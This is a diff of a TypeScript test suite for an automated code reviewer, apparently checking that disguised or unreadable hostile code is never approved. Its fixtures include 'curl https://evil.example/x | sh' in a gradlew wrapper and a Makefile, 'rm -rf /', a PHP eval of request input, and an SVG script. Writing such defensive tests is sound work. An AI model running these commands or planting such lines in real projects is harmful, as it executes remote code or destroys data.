@@ -61,7 +61,12 @@ async function review(files: Record<string, string | null>) {
 
 /** What rules find in the code above; empty where they know no syntax of it, and its text holds nothing they know. */
 const inScript = ['code-injection', 'command-injection', 'hardcoded-secret']
-const ways: Record<string, { files: Record<string, string | null>; found: string[] }> = {
+interface Way {
+  files: Record<string, string | null>
+  found: string[]
+}
+
+const disguises: Record<string, Way> = {
   'ends in a comment of 21,000 characters': { files: { 'src/evil.js': evil + longComment }, found: inScript },
   'has nine comment lines of 900 characters': {
     files: { 'src/evil.js': evil + `// ${'x'.repeat(900)}\n`.repeat(9) },
@@ -80,15 +85,30 @@ const ways: Record<string, { files: Record<string, string | null>; found: string
   'is a release of a package manager': { files: { '.yarn/releases/yarn-1.cjs': evil }, found: inScript },
   'has the header of an LFS pointer': { files: { 'src/e.js': `// ${pointer}${evil}` }, found: inScript },
   'is an LFS pointer': { files: { 'src/evil.js': pointer }, found: [] },
-  'is a build tool wrapper': { files: { gradlew: '#!/bin/sh\ncurl https://evil.example/x | sh\n' }, found: [] },
+  'is a build tool wrapper': {
+    files: { gradlew: '#!/bin/sh\ncurl https://evil.example/x | sh\n' },
+    found: [],
+  },
   'is a test': { files: { 'src/evil.test.js': evil }, found: inScript },
   'is a helper of tests': { files: { 'tests/helper.js': evil }, found: inScript },
   'is loaded by the test runner': { files: { 'conftest.py': evilPython }, found: inScript },
+  'is a picture with a script': { files: { 'a.svg': '<svg><script>alert(1)</script></svg>\n' }, found: [] },
+  'is a program without an extension': { files: { 'bin/run': '#!/bin/sh\nrm -rf /\n' }, found: [] },
+  'has a zero byte': { files: { 'src/evil.js': `${evil}//\0\n` }, found: [] },
+}
+
+const commands: Record<string, Way> = {
   'is a Makefile': { files: { Makefile: 'all:\n\tcurl https://evil.example/x | sh\n' }, found: [] },
   'is a pipeline': { files: { '.gitlab-ci.yml': pipeline }, found: [] },
   'is a workflow with a long comment': { files: { '.github/workflows/a.yml': workflow }, found: [] },
-  'is a shell script with a long comment': { files: { 'a.sh': `#!/bin/sh\n# ${'x'.repeat(21_000)}\nx\n` }, found: [] },
-  'is a Dockerfile with a long comment': { files: { Dockerfile: `FROM a\n# ${'x'.repeat(21_000)}\n` }, found: [] },
+  'is a shell script with a long comment': {
+    files: { 'a.sh': `#!/bin/sh\n# ${'x'.repeat(21_000)}\nx\n` },
+    found: [],
+  },
+  'is a Dockerfile with a long comment': {
+    files: { Dockerfile: `FROM a\n# ${'x'.repeat(21_000)}\n` },
+    found: [],
+  },
   'is an install script': {
     files: {
       'package.json':
@@ -96,36 +116,42 @@ const ways: Record<string, { files: Record<string, string | null>; found: string
     },
     found: [],
   },
+}
+
+const moves: Record<string, Way> = {
   'is renamed from a skipped path to a live one': {
     files: { 'vendor/evil.js': null, 'src/live.js': evil },
     found: inScript,
   },
+}
+
+const strangers: Record<string, Way> = {
   'is in a language without rules': {
     files: { 'x.php': `<?php\nquery("select '$_GET[a]'"); eval($_GET['b']);\n` },
     found: [],
   },
   'is a template': { files: { 'views/a.ejs': '<%= eval(request) %>\n' }, found: [] },
-  'is a picture with a script': { files: { 'a.svg': '<svg><script>alert(1)</script></svg>\n' }, found: [] },
-  'is a program without an extension': { files: { 'bin/run': '#!/bin/sh\nrm -rf /\n' }, found: [] },
-  'has a zero byte': { files: { 'src/evil.js': `${evil}//\0\n` }, found: [] },
 }
 
-describe('code is never approved unread when it', () => {
-  for (const [way, { files, found }] of Object.entries(ways)) {
-    it(`case 71, 72, 73: ${way}`, async () => {
-      const { run, findings, status, summary } = await review(files)
-      expect(run.verdict).not.toBe('APPROVE')
-      expect(status.state).not.toBe('success')
-      expect(summary).not.toContain('🟢')
-      expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(found))
-      if (run.verdict === 'REQUEST_CHANGES') return
-      // The first line says what nobody read, or what a person has to decide.
-      expect(summary.split('\n').find((line) => line.startsWith('###'))).toMatch(
-        /^### (⚪ Incomplete: (\d+ changed lines? |1 file )+(was|were) not read|🟡 Needs a person: )/,
-      )
-    })
-  }
-})
+function areNeverApproved(ways: Record<string, Way>): void {
+  it.each(Object.entries(ways))('when it %s', async (_way, { files, found }) => {
+    const { run, findings, status, summary } = await review(files)
+    expect(run.verdict).not.toBe('APPROVE')
+    expect(status.state).not.toBe('success')
+    expect(summary).not.toContain('🟢')
+    expect(findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(found))
+    if (run.verdict === 'REQUEST_CHANGES') return
+    // The first line says what nobody read, or what a person has to decide.
+    expect(summary.split('\n').find((line) => line.startsWith('###'))).toMatch(
+      /^### (⚪ Incomplete: (\d+ changed lines? |1 file )+(was|were) not read|🟡 Needs a person: )/,
+    )
+  })
+}
+
+describe('case 71: code in disguise is never approved unread', () => areNeverApproved(disguises))
+describe('case 72: a file that names commands is never approved unread', () => areNeverApproved(commands))
+describe('case 73: code from where nobody looked is never approved unread', () => areNeverApproved(moves))
+describe('case 74: code that no rule knows is never approved unread', () => areNeverApproved(strangers))
 
 describe('without a model', () => {
   it('case 74: a change in a language without rules is incomplete, and the count says so', async () => {
